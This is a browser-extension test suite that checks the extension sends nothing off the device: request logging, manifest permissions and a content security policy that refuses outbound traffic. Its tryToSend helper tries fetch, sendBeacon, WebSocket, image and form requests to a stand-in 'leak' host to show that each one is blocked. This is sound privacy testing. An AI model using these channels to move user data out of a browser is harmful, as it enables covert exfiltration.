/** Nothing that is read, searched for or kept leaves the browser; the browser itself would not let it. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Target } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  buildOf,
  type Driver,
  KINDS,
  type Kind,
  ONLY_CHROMIUM,
  openOwnWorld,
  requestsWithoutExtension,
  type World,
} from './support/launch';
import { openPanelFrom } from './support/panel';
import { keptRecords, PATIENCE, readState } from './support/reading';
import { SITES } from './support/sites';

const LISTED = [
  `${SITES.government}/policy-plan`,
  `${SITES.news}/news-report`,
  `${SITES.news}/football-report`,
];
const UNLISTED = `${SITES.unlisted}/policy-plan`;
const PAGES = [...LISTED, UNLISTED];
const EXTENSION_PAGES = ['popup.html', 'sidepanel.html', 'library.html', 'options.html', 'welcome.html'];
const LEAK = 'www.gov.cn/pages/leak';
const READ_THIS_PAGE = '.state-message .button-primary';

/** As the server writes requests down: host and path. */
const asRequest = (url: string) => url.replace(/^\w+:\/\//, '');

/** All a reader can do: reads pages, one at a click, searches, keeps, and opens every screen. */
async function useEverything(driver: Driver): Promise<void> {
  for (const url of LISTED) await readState(driver, await driver.openPage(url));
  const page = await driver.openPage(UNLISTED);
  const popup = await driver.clickIcon(page);
  await popup.waitFor(READ_THIS_PAGE);
  await popup.click(READ_THIS_PAGE);
  await popup.waitFor('[data-measure]');
  await popup.type('容缺受理');
  await popup.waitFor('[data-measure] mark');
  await popup.press('ArrowDown');
  await popup.press('s');
  await popup.waitFor('.measure-buttons [aria-pressed="true"]');
  await expect.poll(() => keptRecords(driver), { timeout: PATIENCE }).toHaveLength(1);
  await (await openPanelFrom(driver, popup)).waitFor('[data-measure]');
  for (const name of EXTENSION_PAGES)
    await (await driver.openExtensionPage(name)).waitForSelector('h1, .tabs');
}

/** Runs in a page of the extension: tries five ways, and tells which directives of its policy refused them. */
async function tryToSend(leak: string): Promise<string[]> {
  const refused: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    refused.push(effectiveDirective),
  );
  const attempt = (send: () => unknown) => {
    try {
      return Promise.resolve(send()).catch(() => undefined);
    } catch {
      return undefined;
    }
  };
  await attempt(() => fetch(`http://${leak}-fetch`));
  await attempt(() => navigator.sendBeacon(`http://${leak}-beacon`, 'text'));
  await attempt(() => new WebSocket(`ws://${leak}-socket`));
  await attempt(() => Object.assign(new Image(), { src: `http://${leak}-picture` }));
  const form = Object.assign(document.createElement('form'), {
    action: `http://${leak}-form`,
    target: '_blank',
  });
  document.body.append(form);
  await attempt(() => form.submit());
  await new Promise((resolve) => setTimeout(resolve, 500));
  return refused.sort();
}

async function openAll(browser: Driver['browser']): Promise<void> {
  for (const url of PAGES) await (await browser.newPage()).goto(url, { waitUntil: 'load' });
}

describe.each(KINDS)('in real %s', (kind) => {
  let world: World;
  beforeAll(async () => {
    world = await openOwnWorld(kind);
  });
  afterAll(() => world?.close());

  it('a session of reading, searching and keeping asks the network for the pages opened, and for no more', async () => {
    const session = useEverything(world.driver);
    // Open as long as the other: a browser asks for things of its own now and then.
    const ownToBrowser = await requestsWithoutExtension(kind, async (browser) => {
      await openAll(browser);
      await session;
    });
    const pages = PAGES.map(asRequest);
    const favicons = pages.map((page) => page.replace(/\/.*/, '/favicon.ico'));
    const accounted = new Set([...pages, ...favicons, ...ownToBrowser]);
    expect(world.requests).toEqual(expect.arrayContaining(pages));
    expect(world.requests.filter((request) => !accounted.has(request))).toEqual([]);
  });

  it('the policy of the extension refuses every way of sending something off', async () => {
    const page = await world.driver.openExtensionPage('options.html');
    const refused = await page.evaluate(tryToSend, LEAK);
    expect(refused).toEqual(['connect-src', 'connect-src', 'connect-src', 'form-action', 'img-src']);
    expect(world.requests.filter((request) => request.includes('leak'))).toEqual([]);
  });

  it('the manifest asks for what is documented, and lets nothing be sent anywhere', () => {
    const { permissions, optional_permissions, optional_host_permissions, content_security_policy } =
      manifestOf(kind);
    const documented = ['activeTab', 'contextMenus', 'scripting', 'storage'];
    expect(permissions.toSorted()).toEqual(
      kind === 'chromium' ? [...documented, 'sidePanel', 'unlimitedStorage'].toSorted() : documented,
    );
    expect(optional_permissions).toBeUndefined();
    expect(optional_host_permissions).toEqual(['*://*/*']);
    expect(content_security_policy.extension_pages).toContain("default-src 'none'");
    expect(content_security_policy.extension_pages).toContain("connect-src 'none'");
  });
});

interface BuiltManifest {
  readonly permissions: string[];
  readonly optional_permissions?: string[];
  readonly optional_host_permissions: string[];
  readonly content_security_policy: { readonly extension_pages: string };
}

function manifestOf(kind: Kind): BuiltManifest {
  const folder = buildOf(kind === 'chromium' ? 'chrome' : 'firefox');
  return JSON.parse(readFileSync(join(folder, 'manifest.json'), 'utf8'));
}

describe.each(ONLY_CHROMIUM)('in real %s, whose debugger tells of every request', (kind) => {
  let world: World;
  beforeAll(async () => {
    world = await openOwnWorld(kind);
  });
  afterAll(() => world?.close());

  /** Addresses asked for by a page or worker from now on. */
  const listenTo = async (target: Target, asked: string[]) => {
    const session = await target.createCDPSession();
    session.on('Network.requestWillBeSent', ({ request }) => asked.push(request.url));
    await session.send('Network.enable');
  };

  it('the worker and the pages of the extension ask for nothing but its own files', async () => {
    const { browser, newPage, addressOf } = world.driver;
    const asked: string[] = [];
    await listenTo(
      await browser.waitForTarget((target: Target) => target.type() === 'service_worker'),
      asked,
    );
    await readState(world.driver, await world.driver.openPage(`${SITES.government}/policy-plan`));
    for (const name of EXTENSION_PAGES) {
      const page = await newPage();
      await listenTo(page.target(), asked);
      await page.goto(addressOf(name));
      if (name === 'popup.html') await page.type('.search-box input', '容缺受理');
      await page.waitForFunction(() => document.images.length === 0 || document.images[0]?.complete);
    }
    expect(asked).toEqual(expect.arrayContaining(EXTENSION_PAGES.map(addressOf)));
    expect(asked.filter((url) => !url.startsWith(addressOf('')))).toEqual([]);
  });
});
